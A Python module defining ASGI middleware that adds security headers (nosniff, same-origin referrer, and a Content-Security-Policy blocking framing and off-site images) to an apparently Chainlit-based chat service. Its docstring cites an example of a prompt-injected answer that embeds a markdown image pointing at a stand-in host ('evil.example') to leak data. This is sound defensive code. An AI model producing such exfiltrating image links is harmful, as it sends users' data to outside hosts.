"""Headers that make the browser refuse what no page of ours needs.

- `X-Content-Type-Options: nosniff` on every response: a JSON error is never run as script.
- `Referrer-Policy: same-origin`: a link in an answer does not tell its host our URLs.
- On HTML (the UI at `/`, `/docs`, `/redoc`) a Content-Security-Policy that forbids framing
  by other origins (clickjacking) and images from other hosts: a prompt-injected answer
  with `![x](https://evil.example/p?leak=…)` must not make the browser send that request.
  Scripts and styles are not restricted: Chainlit's page and the API docs inline both.
"""

from __future__ import annotations

from starlette.types import ASGIApp, Message, Receive, Scope, Send

HTML_CSP = (
    "frame-ancestors 'self'; img-src 'self' data: blob:; object-src 'none'; "
    "base-uri 'self'; form-action 'self'"
)

_ALWAYS = [
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"same-origin"),
]
_HTML = [
    (b"content-security-policy", HTML_CSP.encode()),
    (b"x-frame-options", b"SAMEORIGIN"),
]


class SecurityHeadersMiddleware:
    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                names = {name.lower() for name, _ in headers}
                added = _ALWAYS + (_HTML if _is_html(headers) else [])
                message["headers"] = headers + [h for h in added if h[0] not in names]
            await send(message)

        await self.app(scope, receive, send_with_headers)


def _is_html(headers: list[tuple[bytes, bytes]]) -> bool:
    return any(
        name.lower() == b"content-type" and value.lower().startswith(b"text/html")
        for name, value in headers
    )
